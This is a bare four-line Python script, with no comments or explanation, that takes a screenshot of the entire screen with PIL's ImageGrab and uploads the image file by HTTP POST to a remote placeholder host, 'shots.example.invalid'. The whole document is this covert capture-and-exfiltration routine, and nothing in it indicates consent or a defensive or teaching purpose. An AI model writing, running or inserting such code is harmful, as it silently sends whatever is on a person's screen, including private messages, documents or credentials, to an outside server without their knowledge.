import requests
from PIL import ImageGrab
ImageGrab.grab().save("s.png")
requests.post("https://shots.example.invalid/u", files={"f": open("s.png", "rb")})
